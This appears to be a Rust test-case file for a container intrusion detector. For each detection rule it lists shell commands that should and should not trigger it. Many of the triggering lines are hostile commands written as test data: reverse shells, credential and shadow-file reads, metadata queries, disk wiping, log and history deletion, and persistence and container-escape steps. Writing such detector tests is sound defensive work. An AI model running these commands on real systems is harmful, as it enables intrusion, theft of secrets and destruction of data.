//! A case for each rule: what triggers it for real, and what is like it but harmless.
//!
//! Each text is a script of `sh` in a container that has all privileges, so that the kernel lets happen what the rule is about.
//! What would harm the machine is only begun: files of the kernel are opened for writing but not written, no module is one, a
//! disk is a file or a device without a disk behind it, and `rm -rf /` is done by something that is only called `rm`.
//!
//! `$G` is the directory of the tests: `bin/act` makes single system calls (`act.c`), `fake/NAME` is the same by another name, and
//! `run/NAME` is a script that runs its arguments, so as to be their parent.

pub(super) struct Case {
    pub(super) rule: &'static str,
    /// Each is told by this rule.
    pub(super) bad: &'static [&'static str],
    /// They succeed, and of none anything is told, by whichever rule.
    pub(super) good: &'static [&'static str],
}

/// Begun in both containers before the cases: addresses of our own, and servers.
pub(super) const SETUP: &str = r"
    ip address add 10.99.0.1/24 dev lo
    ip address add 169.254.169.254/32 dev lo
    $G/bin/act serve 80
    $G/bin/act names
    $G/fake/sshd serve 22
";

pub(super) const CASES: &[Case] = &[
    Case {
        rule: "Shell spawned by a server",
        bad: &["$G/run/nginx sh -c 'id'"],
        good: &["$G/run/nginx id", "sh -c '$G/run/nginx id'"],
    },
    Case {
        rule: "Download or network tool spawned by a server",
        bad: &["$G/run/nginx $G/fake/curl http://10.99.0.1/", "$G/run/nginx sh -c '$G/fake/wget x; true'"],
        good: &["$G/fake/curl http://10.99.0.1/", "sh -c '$G/fake/wget x; true'"],
    },
    Case {
        rule: "Shell speaks over the network",
        bad: &["bash -c 'exec 0<>/dev/tcp/127.0.0.1/80'"],
        good: &[r#"perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:80")->print("x")'"#],
    },
    Case {
        rule: "Command line of a reverse shell",
        bad: &[
            "bash -c ': >/dev/tcp/127.0.0.1/80'",
            "$G/fake/nc 10.99.0.1 4444 -e /bin/sh",
            "$G/fake/socat TCP:10.99.0.1:4444 EXEC:sh",
            "perl -e '# socket, dup2'",
        ],
        good: &["bash -c ': >/dev/null'", "$G/fake/nc 10.99.0.1 80", "perl -e '# socket'"],
    },
    Case {
        rule: "Program dropped and executed",
        bad: &["cp /bin/true /root/dropped; /root/dropped"],
        good: &["echo true > /root/script; sh /root/script", "cp /bin/true /root/kept"],
    },
    Case {
        rule: "Program executed from memory",
        bad: &["$G/bin/act execute-in-memory /bin/true"],
        good: &["$G/bin/act memory-only /bin/true"],
    },
    Case {
        rule: "Program executed from a shared or temporary directory",
        bad: &["cp /bin/true /tmp/t; /tmp/t", "cp /bin/true /var/tmp/t; /var/tmp/t"],
        good: &["echo '#!/bin/sh' > /tmp/s; chmod 755 /tmp/s; /tmp/s", "cp /bin/true /tmp/t"],
    },
    Case {
        rule: "Hidden program executed",
        bad: &["$G/.cache/tool", "$G/.../tool"],
        good: &["$G/.venv/bin/tool", "$G/.npm/tool"],
    },
    Case {
        rule: "Package manager in a running container",
        bad: &["$G/fake/apt-get install curl", "$G/fake/apk add curl", "$G/fake/pip install x"],
        good: &["$G/fake/apt-get update", "dpkg --version"],
    },
    Case {
        rule: "Compiler in a running container",
        bad: &["$G/fake/gcc x.c", "$G/fake/clang-16 x.c"],
        good: &["$G/run/dpkg $G/fake/gcc x.c", "$G/fake/make"],
    },
    Case {
        rule: "Shell at a terminal in a container",
        bad: &["script -qec id /dev/null"],
        good: &["setsid sh -c id"],
    },
    Case {
        rule: "Decoded text given to a shell",
        bad: &["sh -c 'echo aWQ= | base64 -d | sh'"],
        good: &["sh -c 'echo aWQ= | base64 -d | cat'"],
    },
    Case {
        rule: "Crypto miner",
        bad: &["$G/fake/xmrig", "$G/fake/java -o stratum+tcp://10.99.0.1:3333"],
        good: &["$G/fake/java -o tcp://10.99.0.1:3333"],
    },
    Case {
        rule: "Network scanner in a container",
        bad: &["$G/fake/nmap 10.99.0.1", "$G/fake/nc -z 10.99.0.1 80"],
        good: &["$G/fake/nc 10.99.0.1 80", "ip address"],
    },
    Case {
        rule: "Tunnel or remote access tool in a container",
        bad: &["$G/fake/chisel client", "$G/fake/ssh -R 1:127.0.0.1:2 host"],
        good: &["$G/fake/ssh host uptime"],
    },
    Case {
        rule: "Search for credentials",
        bad: &["grep -r password /opt/gabion/run", "find /opt/gabion -name id_rsa"],
        good: &["grep -c root /etc/passwd", "find /opt/gabion -name app.pl"],
    },
    Case {
        rule: "Data destroyed",
        bad: &[
            "echo x > /root/junk; shred /root/junk",
            "$G/fake/rm -rf --no-preserve-root /",
            "$G/fake/dd if=/dev/zero of=/dev/sda",
        ],
        good: &[
            "echo x > /root/junk; rm -rf /root/junk",
            "dd if=/dev/zero of=/dev/null bs=1 count=1",
            "echo x | dd of=/dev/stdout",
        ],
    },
    Case {
        rule: "Shell history switched off or deleted",
        bad: &[
            "rm -f /root/.bash_history",
            ": > /root/.ash_history; perl -e 'unlink(\"/root/.ash_history\")'",
        ],
        good: &["rm -f /root/notes", "cat /root/.bash_history"],
    },
    Case {
        rule: "Socket of the container runtime used in a container",
        bad: &["$G/bin/act unix /run/docker.sock"],
        good: &["$G/bin/act unix /run/app.sock"],
    },
    Case {
        rule: "Kernel told to run a program of a container",
        bad: &["$G/bin/act open-to-write /proc/sys/kernel/core_pattern", ": > /root/release_agent"],
        good: &["cat /proc/sys/kernel/core_pattern"],
    },
    Case {
        rule: "Kernel controls written in a container",
        bad: &["$G/bin/act open-to-write /proc/sys/kernel/randomize_va_space", ": > /root/sysrq-trigger"],
        good: &["cat /proc/sys/kernel/randomize_va_space"],
    },
    Case {
        rule: "Container runtime overwritten",
        bad: &["$G/bin/act open-to-write $G/sbin/runc"],
        good: &["cat $G/sbin/runc"],
    },
    Case {
        rule: "Mount inside a container",
        bad: &["mkdir -p /mnt/x; mount -t tmpfs none /mnt/x"],
        // Without privileges it fails.
        good: &["cat /proc/mounts", "mkdir -p /mnt/x; ! $UNPRIVILEGED mount -t tmpfs none /mnt/x"],
    },
    Case {
        rule: "Namespace of another process entered",
        bad: &["nsenter -t 1 -u true"],
        good: &["ls -l /proc/1/ns", "! $UNPRIVILEGED nsenter -t 1 -u true"],
    },
    Case {
        rule: "User namespace made in a container",
        bad: &["unshare -U true", "$G/bin/act child-in-user-namespace"],
        good: &["unshare -u true"],
    },
    Case {
        rule: "Disk of the node opened in a container",
        bad: &[": > /dev/sdz; head -c 1 /dev/sdz", "mknod /root/disk b 259 65535"],
        good: &["head -c 1 /dev/zero > /dev/null", ": > /dev/sdz.txt", "mknod /root/null c 1 3"],
    },
    Case {
        rule: "File opened around the root of a container",
        bad: &["$G/bin/act open-by-handle /dev/shm"],
        good: &["$G/bin/act handle /dev/shm"],
    },
    Case {
        // Many kernels have no modules, or do not load this: the attempt is told.
        rule: "Kernel module loaded",
        bad: &["$G/bin/act module"],
        good: &["cat $G/x.ko"],
    },
    Case {
        rule: "BPF program loaded in a container",
        bad: &["$G/bin/act bpf-program"],
        good: &["$G/bin/act bpf-map"],
    },
    Case {
        rule: "Page faults handled in user space",
        bad: &["$AS_USER $G/bin/act page-faults"],
        good: &["$G/bin/act page-faults"],
    },
    Case {
        rule: "System calls queued past the sensors",
        bad: &["$G/bin/act io-uring"],
        good: &["$G/fake/nginx io-uring"],
    },
    Case {
        rule: "Code put into another process",
        bad: &["$G/bin/act attach", "$G/bin/act write-memory"],
        good: &["$G/bin/act be-traced", "$G/fake/strace attach"],
    },
    Case {
        rule: "Memory or environment of another process read",
        bad: &["cat /proc/1/environ > /dev/null"],
        good: &["cat /proc/self/environ > /dev/null", "grep -c . /proc/self/maps"],
    },
    Case {
        rule: "Process became root",
        bad: &[
            "$AS_USER $G/setuid/act",
            "$AS_USER --inh-caps +setuid --ambient-caps +setuid $G/bin/act become-root",
        ],
        good: &["$AS_USER true", "$AS_USER $G/setuid/sudo", "$G/bin/act become-root"],
    },
    Case {
        rule: "Program made setuid",
        bad: &[
            "cp /bin/true /root/s; chmod 4755 /root/s",
            "cp /bin/true /root/r; cd /root; chmod u+s r",
            // Linux has it since 6.6.
            "cp /bin/true /root/q; $G/bin/act chmod-with-flags /root/q || chmod 4755 /root/q",
            "cp /bin/true /root/g; perl -e 'open(F, \"/root/g\"); chmod(02755, *F)'",
        ],
        good: &[
            "cp /bin/true /root/x; chmod 755 /root/x",
            "mkdir /root/d; chmod 2775 /root/d; chmod 1777 /root/d",
        ],
    },
    Case { rule: "Packets read as they are", bad: &["$G/bin/act packets"], good: &["$G/bin/act datagrams"] },
    Case {
        rule: "Service account token read by a tool",
        bad: &["cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
        good: &[
            "cat /var/run/secrets/kubernetes.io/serviceaccount/namespace",
            "$G/bin/act read /var/run/secrets/kubernetes.io/serviceaccount/token",
        ],
    },
    Case {
        rule: "Password file read",
        bad: &["cat /etc/shadow > /dev/null"],
        good: &["cat /etc/passwd > /dev/null", "getent shadow root > /dev/null"],
    },
    Case {
        rule: "Keys of a person or a cloud read by a tool",
        bad: &["cat /root/.ssh/id_ed25519", "perl -e 'open(F, \"/root/.aws/credentials\")'"],
        good: &["cat /root/.ssh/id_ed25519.pub", "perl $G/app.pl /root/.aws/credentials"],
    },
    Case {
        rule: "Metadata service of the cloud asked",
        bad: &["$G/fake/curl connect 169.254.169.254 80"],
        good: &["$G/bin/act connect 169.254.169.254 80", "$G/fake/curl connect 10.99.0.1 80"],
    },
    Case {
        rule: "Logs deleted or emptied",
        bad: &["rm /var/log/gabion/a", ": > /var/log/gabion/b", "truncate -s 0 /var/log/gabion/c"],
        good: &[
            "echo x >> /var/log/gabion/a",
            "perl $G/rotate.pl /var/log/gabion/b",
            "cat /var/log/gabion/c",
        ],
    },
    Case {
        rule: "Program of the image overwritten",
        bad: &["cp /bin/true /usr/bin/gabion-x", "cp /bin/true /root/y; mv /root/y /usr/local/bin/y"],
        good: &["cp /bin/true /usr/local/share/x", "$G/run/dpkg cp /bin/true /usr/bin/gabion-x"],
    },
    Case {
        rule: "Library forced into every program",
        bad: &[
            ": >> /etc/ld.so.preload",
            "rm /etc/ld.so.preload; : > /etc/new; mv /etc/new /etc/ld.so.preload",
        ],
        good: &["cat /etc/ld.so.preload", ": > /etc/ld.so.conf.d/gabion.conf"],
    },
    Case {
        rule: "Key for logging in added",
        bad: &[
            ": >> /root/.ssh/authorized_keys",
            ": > /root/.ssh/new; mv /root/.ssh/new /root/.ssh/authorized_keys",
        ],
        good: &["cat /root/.ssh/authorized_keys", ": >> /root/.ssh/known_hosts"],
    },
    Case {
        rule: "Scheduled or started by the system from now on",
        bad: &[": > /etc/cron.d/gabion", ": >> /root/.bashrc"],
        good: &["cat /root/.bashrc", ": > /etc/gabion.conf"],
    },
    Case {
        rule: "User or password changed",
        bad: &[": >> /etc/passwd", "sed -i s/root/root/ /etc/group"],
        good: &["cp /etc/passwd /root/passwd", ": >> /etc/hosts"],
    },
    Case {
        rule: "Data hidden in names",
        bad: &["$G/bin/act ask $LONG.$LONG.$LONG.example.org"],
        good: &["$G/bin/act ask $LONG.example.org"],
    },
    Case {
        rule: "Agent tampered with",
        bad: &["$G/bin/act bpf-update-agent"],
        good: &["$G/bin/act bpf-update; kill -0 $$; sh -c 'kill -9 $$' || :"],
    },
    Case {
        rule: "Lateral scan",
        bad: &[
            "$G/bin/act connect-to-addresses 10.99.0 40",
            "for i in $(seq 40); do $G/fake/nc connect 10.99.0.$i 80; done",
        ],
        good: &[
            "$G/bin/act connect-to-addresses 10.99.0 20",
            "$G/fake/prometheus connect-to-addresses 10.99.0 40",
        ],
    },
    Case {
        rule: "Port scan",
        bad: &["$G/bin/act connect-to-ports 10.99.0.1 40"],
        good: &["$G/bin/act connect-to-ports 10.99.0.1 20", "$G/bin/act connect-to-ports 127.0.0.1 40"],
    },
    Case {
        rule: "Logins tried again and again",
        bad: &["$G/bin/act connect-often 22 25"],
        good: &["$G/bin/act connect-often 22 5", "$G/bin/act connect-often 80 25"],
    },
];
